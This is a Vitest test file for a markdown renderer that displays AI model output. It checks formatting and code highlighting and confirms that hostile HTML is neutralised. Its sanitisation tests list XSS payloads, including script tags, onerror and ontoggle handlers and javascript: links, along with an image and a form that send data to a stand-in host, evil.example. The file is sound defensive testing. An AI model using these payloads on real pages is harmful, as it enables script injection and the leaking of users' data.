// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

function dom(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

describe('markdown', () => {
  test('lists, tables, emphasis and links', () => {
    const html = dom(
      ['# Plan', '', '- one', '- **two**', '', '1. first', '2. second', '', '| a | b |', '| - | - |', '| 1 | 2 |', '', 'See [docs](https://example.com/docs).'].join('\n'),
    );
    expect(html.querySelector('h1')?.textContent).toBe('Plan');
    expect(html.querySelectorAll('ul li')).toHaveLength(2);
    expect(html.querySelector('ul strong')?.textContent).toBe('two');
    expect(html.querySelectorAll('ol li')).toHaveLength(2);
    expect(html.querySelector('.table-scroll table td')?.textContent).toBe('1');
    const link = html.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.com/docs');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toContain('noopener');
  });

  test('code blocks are highlighted and labelled', () => {
    const html = dom('```ts\nconst answer: number = 42;\n```');
    expect(html.querySelector('.code-header span')?.textContent).toBe('ts');
    const code = html.querySelector('pre code')!;
    expect(code.className).toContain('language-ts');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(code.textContent).toBe('const answer: number = 42;');
  });

  test('unknown languages and half-streamed fences render as plain code', () => {
    const html = dom('Here:\n\n```brainfart\n<b>not bold</b>\n');
    expect(html.querySelector('pre code')?.textContent?.trim()).toBe('<b>not bold</b>');
    expect(html.querySelector('pre b')).toBeNull();
  });
});

describe('sanitizing model output', () => {
  const attacks = [
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned = 1">',
    '<svg><script>window.pwned = 1</script></svg>',
    '<iframe src="javascript:window.pwned = 1"></iframe>',
    '<a href="javascript:window.pwned = 1">click</a>',
    '[click](javascript:window.pwned=1)',
    '[click](  JaVaScRiPt:window.pwned=1)',
    '![x](https://evil.example/leak?data=secret)',
    '![x](javascript:window.pwned=1)',
    '<details open ontoggle="window.pwned = 1">x</details>',
    '```"><script>window.pwned=1</script>\ncode\n```',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example"><input name=a></form>',
  ];

  test.each(attacks)('%s', (attack) => {
    const html = dom(`Before\n\n${attack}\n\nAfter`);
    expect(html.querySelector('script, iframe, img, style, form, object, embed')).toBeNull();
    for (const element of html.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(false);
        expect(attribute.value.toLowerCase().replace(/\s/g, '')).not.toContain('javascript:');
      }
    }
    // Raw HTML is shown as text, not dropped silently.
    expect(html.textContent).toContain('Before');
    expect(html.textContent).toContain('After');
  });

  test('raw HTML reads as text', () => {
    expect(dom('Use <b>bold</b> tags').querySelector('p')?.textContent).toBe('Use <b>bold</b> tags');
  });

  test('an image becomes a link that loads nothing by itself', () => {
    const link = dom('![chart](https://example.com/chart.png)').querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.com/chart.png');
    expect(link.textContent).toBe('Image: chart');
  });
});
